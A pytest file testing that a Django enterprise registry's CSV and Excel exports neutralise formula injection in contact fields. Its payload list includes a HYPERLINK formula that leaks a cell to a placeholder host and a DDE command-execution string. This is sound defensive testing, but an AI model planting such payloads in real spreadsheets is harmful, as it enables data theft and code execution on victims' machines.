"""Formula injection (issue 16, item 1): what an enterprise user types into its contact fields reaches bureau staff
in the registry exports as text, never as a live formula, in CSV and in Excel."""

import csv
import io

import pytest
from django.db.models import F
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from enterprises.export import HEADERS
from enterprises.models import Enterprise, SpecialCategory
from enterprises.services import enterprise_update_contact

PAYLOADS = [
    '=HYPERLINK("http://x"&D2,"详情")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
CONTACT = HEADERS.index("安全生产主要负责人")
PHONE = HEADERS.index("联系电话")
EMPLOYEES = HEADERS.index("从业人数")


def store_contact(enterprise, payload, actor):
    if payload[0] in "\t\r":
        # A control character may be refused at input today, but rows stored before (or imported) still reach
        # the export: write it as such a row.
        Enterprise.objects.filter(pk=enterprise.pk).update(safety_contact=payload, safety_phone=payload)
        return
    enterprise_update_contact(enterprise=enterprise, safety_contact=payload, safety_phone=payload, actor=actor)


def csv_row_of(response, name):
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return next(row for row in csv.reader(io.StringIO(text, newline="")) if row[1] == name)


def xlsx_row_of(response, name):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return next(row for row in sheet.iter_rows() if row[1].value == name)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_export_carries_no_live_formula(client, world, staff, enterprise_user_x, payload):
    store_contact(world.enterprise_x, payload, enterprise_user_x)
    client.force_login(staff)

    row = csv_row_of(client.get(reverse("enterprises:export_csv")), "企业X")

    assert row[CONTACT] == row[PHONE] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_xlsx_export_carries_no_live_formula(client, world, staff, enterprise_user_x, payload):
    store_contact(world.enterprise_x, payload, enterprise_user_x)
    client.force_login(staff)

    row = xlsx_row_of(client.get(reverse("enterprises:export_xlsx")), "企业X")

    assert not any(cell.data_type == "f" for cell in row)
    for cell in (row[CONTACT], row[PHONE]):
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
        assert cell.value.lstrip("'").replace("\n", "\r") == payload.replace("\n", "\r")


def test_a_number_stays_a_number_in_the_xlsx_export(client, world, staff):
    Enterprise.objects.filter(pk=world.enterprise_x.pk).update(employees=120)
    client.force_login(staff)

    row = xlsx_row_of(client.get(reverse("enterprises:export_xlsx")), "企业X")

    assert row[EMPLOYEES].value == 120 and row[EMPLOYEES].data_type == "n"


def test_a_category_name_in_the_import_template_is_text(client, world, staff):
    SpecialCategory.objects.update(position=F("position") + 1)
    SpecialCategory.objects.create(code="evil", name="=1+1", position=0)
    client.force_login(staff)

    workbook = load_workbook(io.BytesIO(client.get(reverse("enterprises:import_template")).content))

    cells = [cell for row in workbook["填写说明"].iter_rows() for cell in row if cell.value]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value.startswith("'=1+1、") for cell in cells)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
# Lone surrogates (Cs) are not text PostgreSQL can store: the database refuses them before any export.
@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=50))
def test_no_stored_contact_reaches_an_export_as_a_formula(client, world, staff, text):
    # Any text at all, as if stored before today's input rules; PostgreSQL itself refuses NUL.
    Enterprise.objects.filter(pk=world.enterprise_x.pk).update(safety_contact=text)
    client.force_login(staff)

    csv_row = csv_row_of(client.get(reverse("enterprises:export_csv")), "企业X")
    xlsx_row = xlsx_row_of(client.get(reverse("enterprises:export_xlsx")), "企业X")

    assert not csv_row[CONTACT].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not any(cell.data_type == "f" for cell in xlsx_row)
    assert not str(xlsx_row[CONTACT].value or "").startswith(("=", "+", "-", "@"))
